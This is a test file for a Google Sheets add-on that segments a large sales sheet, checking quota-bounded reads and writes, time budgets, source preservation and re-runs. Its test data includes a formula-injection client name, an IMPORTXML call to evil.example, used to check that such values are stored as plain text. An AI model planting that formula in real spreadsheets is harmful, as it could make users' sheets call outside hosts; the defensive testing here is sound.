/**
 * Segmenting a 200,000-line sheet through the built add-on, as the sidebar drives it:
 * startSegment, then continueSegment until the result. Checks the quota design: a bounded number
 * of getValues / setValues (one per block, never per cell), every call inside its simulated time
 * budget with its writes applied, state kept small and within the cache's limits, only JSON
 * crossing; and the house rules: every tab written, the source untouched, a user's sheet with a
 * tab's name untouched, text kept as text, a re-run replacing its own tabs in place.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { layoutTab } from '../../core/layout/tab-layout.js';
import { INSPECT_ROWS } from '../../core/panel/inspect.js';
import { BLOCK_CELLS, planWrites } from '../../apps-script/plan.js';
import { CALL_BUDGET_MS } from '../../apps-script/segment-job.js';
import { READ_BLOCK_CELLS, TAB_KEY } from '../../apps-script/sheets-port.js';
import { dayFromYmd, serialFromDay } from '../../core/basics/calendar.js';
import type { SheetSpec } from '../../core/report/spec.js';
import { segmentGrids } from '../helpers/pipeline.js';
import type { Cell } from '../../core/read/types.js';
import type { RunRequest } from '../../core/panel/bridge.js';
import { buildAddOn, loadServer, type ServerGlobals } from './bundle.js';
import { drive, type Driven } from './drive.js';
import { COSTS, fakeHost, midnightIn, type FakeHost, type FakeSheet, type StoredCell } from './fakes.js';

const ZONE = 'Europe/Moscow';
const LINES = 200_000;
/**
 * The model is off: fitting it to these 2,500 clients takes most of a minute in Node and nothing
 * here is about its numbers (`npm run bench` runs the same size with the model on).
 */
const OPTIONS = { model: 'none' } as const;
const HOSTILE_CLIENTS = ['=IMPORTXML("http://evil.example","//a")', '+79991234567', '-1', '@risk'];

/** A deterministic sales sheet: client, date (Date cells), amount; a few rows the core rejects. */
function salesGrid(): { grid: (string | number | Date)[][]; serialGrid: Cell[][] } {
  const days = Array.from({ length: 3 * 365 }, (_, d) => ({ date: midnightIn(ZONE, 2023, 1, 1 + d), serial: serialFromDay(dayFromYmd(2023, 1, 1 + d)) }));
  const grid: (string | number | Date)[][] = [['Client', 'Date', 'Amount']];
  const serialGrid: Cell[][] = [['Client', 'Date', 'Amount']];
  let seed = 12345;
  const next = () => (seed = (seed * 48_271) % 2_147_483_647);
  for (let i = 0; i < LINES; i++) {
    const c = next() % 2500;
    const client = c < HOSTILE_CLIENTS.length ? HOSTILE_CLIENTS[c] : `Client ${String(c).padStart(4, '0')}`;
    // Clients above 2000 stop buying after the first year: they become lost.
    const span = c >= 2000 ? 365 : days.length;
    const day = days[(next() % span + (c % 7)) % days.length];
    const amount = (next() % 100_000) / 100 + 1;
    if (i % 50_000 === 7) {
      grid.push([client, 'not a date', amount]);
      serialGrid.push([client, 'not a date', amount]);
      continue;
    }
    grid.push([client, new Date(day.date.getTime()), amount]);
    serialGrid.push([client, day.serial, amount]);
  }
  return { grid, serialGrid };
}

/** A run that must finish; its result, its calls. */
function run(server: ServerGlobals, host: FakeHost, request: RunRequest): Driven & { result: { ok: true; summary: Record<string, unknown>; tabs: { key: string; name: string }[] } } {
  const driven = drive(server, host, request);
  expect(driven.start.ok, driven.start.message).toBe(true);
  expect(driven.result?.ok, JSON.stringify(driven.result)).toBe(true);
  return driven as never;
}

const isFormula = (cell: StoredCell) => typeof cell === 'object' && !(cell instanceof Date);

let code: string;
let expected: SheetSpec[];
let sales: ReturnType<typeof salesGrid>;

beforeAll(async () => {
  ({ code } = await buildAddOn());
  sales = salesGrid();
  const outcome = segmentGrids({ sales: sales.serialGrid }, 'en', OPTIONS);
  if (!outcome.ok) throw new Error('the core refused the test data');
  expected = outcome.sheets;
});

describe('segmenting a 200,000-line sheet', () => {
  let host: FakeHost;
  let server: ServerGlobals;
  let source: FakeSheet;
  let userKpi: FakeSheet;
  let first: ReturnType<typeof run>;

  beforeAll(() => {
    host = fakeHost({ timeZone: ZONE });
    server = loadServer(code, host);
    source = host.book.addSheet('Sales', sales.grid);
    userKpi = host.book.addSheet('KPI', [['my quarterly notes'], ['=SUM(1,2)']]);
    host.log.reset();
    first = run(server, host, { sources: { sales: 'Sales' }, options: OPTIONS, lang: 'en' });
    const lines = first.calls.map((c, i) => `  continue #${i + 1}: ${c.simulatedMs.toFixed(0)} ms simulated, ${c.realMs.toFixed(0)} ms in Node, ${c.progress ? `${c.progress.stage} ${c.progress.done}/${c.progress.total}` : 'finished'}`);
    console.log(lines.join('\n'));
  });

  it('finishes with the summary and every tab of the report', () => {
    expect(first.result.ok).toBe(true);
    expect(first.result.tabs.map((t) => t.key)).toEqual(expected.map((s) => s.key));
    expect(first.result.summary).toMatchObject({ clients: 2500, rejectedRows: 4 });
    const head = JSON.parse(host.properties.values.get('winback.run')!) as { phase: string; write: { cursor: number; total: number } };
    expect(head).toMatchObject({ phase: 'done', write: { cursor: planWrites(expected.map(layoutTab)).length, total: planWrites(expected.map(layoutTab)).length } });
  });

  it('writes each tab as the core described it, marked as its own', () => {
    for (const spec of expected) {
      const tab = first.result.tabs.find((t) => t.key === spec.key)!;
      const sheet = host.book.sheet(tab.name);
      expect(sheet.metadata.map((m) => [m.key, JSON.parse(m.value)])).toEqual([[TAB_KEY, { key: spec.key, sheet: sheet.id }]]);
      layoutTab(spec).tables.forEach((place) => {
        const table = place.spec;
        expect(sheet.rows(place.headerRow + 1, 1, place.columnCount)[0], `${spec.key} header`).toEqual(table.columns.map((c) => c.header));
        if (place.rowCount === 0) return;
        const last = sheet.rows(place.firstDataRow + place.rowCount, 1, place.columnCount)[0];
        const want = table.rows[place.rowCount - 1].map((v, j) => (v === null ? '' : table.columns[j].format === 'date' && typeof v === 'number' ? serialFromDay(v) : v));
        expect(last, `${spec.key} last row`).toEqual(want);
      });
    }
  });

  it('reads the source with one getValues per block and writes with one setValues per block', () => {
    const readBlocks = 1 + Math.ceil((LINES + 1 - INSPECT_ROWS) / Math.floor(READ_BLOCK_CELLS / 3));
    const writeBlocks = planWrites(expected.map(layoutTab)).filter((s) => s.kind === 'lines').length;
    // One block per run of notes: on top, or a long list's lead line above it and its notes under it.
    const notes = expected.reduce((n, spec) => n + layoutTab(spec).notes.length, 0);
    expect(expected.filter((s) => s.notesBelow).map((s) => s.key)).toEqual(['clients', 'winback']);
    expect(notes).toBe(expected.filter((s) => s.notes.length > 0).length + 2);
    expect(host.log.count('Range.getValues')).toBe(readBlocks);
    expect(host.log.count('Range.setValues')).toBe(writeBlocks + notes);
    expect(host.log.count('Range.setNumberFormats')).toBe(writeBlocks + notes);
    expect(host.log.count('Range.setValues')).toBeLessThan(100);
  });

  it('keeps every call inside the time budget, writes applied, and the run state small', () => {
    const worstWrite = 2 * COSTS.call + BLOCK_CELLS * (COSTS.perCellWritten + COSTS.perFormat) + 10 * COSTS.chart;
    const worstRead = COSTS.call + READ_BLOCK_CELLS * COSTS.perCellRead;
    for (const call of first.calls) expect(call.simulatedMs).toBeLessThan(CALL_BUDGET_MS + Math.max(worstWrite, worstRead) + 1_000);
    expect(host.cache.largestValue).toBeLessThanOrEqual(100 * 1024);
    expect([...host.properties.values.keys()]).toEqual(['winback.run']);
    expect(host.properties.values.get('winback.run')!.length).toBeLessThan(9 * 1024);
    expect([...host.cache.values.keys()].every((key) => key.includes('.summary.'))).toBe(true);
  });

  it('leaves the source values exactly as they were', () => {
    const grid = sales.grid;
    expect(source.getLastRow()).toBe(grid.length);
    for (let r = 0; r < grid.length; r++) {
      for (let c = 0; c < 3; c++) {
        const stored = source.cell(r + 1, c + 1);
        const want = grid[r][c];
        if (want instanceof Date) expect((stored as Date).getTime()).toBe(want.getTime());
        else if (stored !== want) expect(stored).toBe(want);
      }
    }
    expect(source.formats.size).toBe(0);
    expect(source.metadata).toEqual([]);
  });

  it("leaves a user's sheet named like a tab alone and writes the tab under a suffixed name", () => {
    expect(userKpi.rows(1, 2, 1)).toEqual([['my quarterly notes'], ['=SUM(1,2)']]);
    expect(userKpi.metadata).toEqual([]);
    expect(first.result.tabs.find((t) => t.key === 'kpi')?.name).toBe('KPI (2)');
  });

  it('writes client names that look like formulas or numbers as text', () => {
    const clients = host.book.sheet('Clients');
    const written = [...clients.values.entries()].filter(([, v]) => HOSTILE_CLIENTS.includes(v as string));
    expect(new Set(written.map(([, v]) => v))).toEqual(new Set(HOSTILE_CLIENTS));
    for (const [key] of written) {
      const [row, column] = key.split(':').map(Number);
      expect(clients.format(row, column)).toBe('@');
    }
    for (const sheet of host.book.sheets.filter((s) => s !== userKpi)) {
      expect([...sheet.values.values()].filter(isFormula), sheet.name).toEqual([]);
    }
  });

  it('replaces its own tabs in place on a re-run, in another language', () => {
    const ids = host.book.sheets.map((s) => s.id);
    const again = run(server, host, { sources: { sales: 'Sales' }, options: OPTIONS, lang: 'ru' });
    expect(again.result.ok).toBe(true);
    expect(host.book.sheets.map((s) => s.id)).toEqual(ids);
    expect(host.book.sheets.map((s) => s.name)).toContain('Клиенты');
    expect(host.book.sheets.map((s) => s.name)).toContain('KPI (2)');
    expect(host.book.sheets.flatMap((s) => s.charts)).toHaveLength(expected.flatMap((s) => s.charts).length);
  });
});

describe('a sheet whose amounts show their currency', () => {
  it('writes every money cell with the currency, as the report language writes it', () => {
    const host = fakeHost({ timeZone: ZONE });
    const server = loadServer(code, host);
    const rows: (string | Date)[][] = [['Клиент', 'Дата', 'Сумма']];
    for (let m = 0; m < 12; m++) for (const client of ['ООО Ромашка', 'ИП Петров']) rows.push([client, midnightIn(ZONE, 2025, m + 1, 10), `${m + 1} 234,50 ₽`]);
    host.book.addSheet('Продажи', rows);
    const done = run(server, host, { sources: { sales: 'Продажи' }, options: OPTIONS, lang: 'ru' });
    const money = new Map<string, number>();
    for (const tab of done.result.tabs) for (const format of host.book.sheet(tab.name).formats.values()) if (format.includes('#,##0.00')) money.set(format, (money.get(format) ?? 0) + 1);
    expect([...money.keys()]).toEqual(['#,##0.00"\u00a0₽"']);
  });
});

describe('a run that cannot start or is cancelled', () => {
  it('says why a sheet cannot be segmented, in the user language', () => {
    const host = fakeHost({ timeZone: ZONE });
    const server = loadServer(code, host);
    host.book.addSheet('Notes', [['just', 'words']]);
    const notes = drive(server, host, { sources: { sales: 'Notes' }, options: OPTIONS, lang: 'en' });
    expect(notes.result).toEqual({ ok: false, message: expect.stringMatching(/header row/) });
    expect(host.properties.values.has('winback.run')).toBe(false);
    expect(server.startSegment({ sources: { sales: 'Gone' }, options: {}, lang: 'ru' })).toEqual({ ok: false, message: expect.stringContaining('«Gone»') });
    expect(host.book.sheets).toHaveLength(1);
  });

  it('forgets a cancelled run, cache and marker, and reports an expired one', () => {
    const host = fakeHost({ timeZone: ZONE });
    const server = loadServer(code, host);
    host.book.addSheet('Sales', sales.grid.slice(0, 3000));
    const start = server.startSegment({ sources: { sales: 'Sales' }, options: OPTIONS, lang: 'en' }) as { jobId: string };
    server.continueSegment(start.jobId, 'en');
    expect(host.cache.values.size).toBeGreaterThan(0);
    server.cancelSegment(start.jobId);
    expect(host.cache.values.size).toBe(0);
    expect(host.properties.values.has('winback.run')).toBe(false);
    expect(server.continueSegment(start.jobId, 'en')).toEqual({ finished: true, result: { ok: false, message: expect.stringMatching(/expired/) } });
  });
});
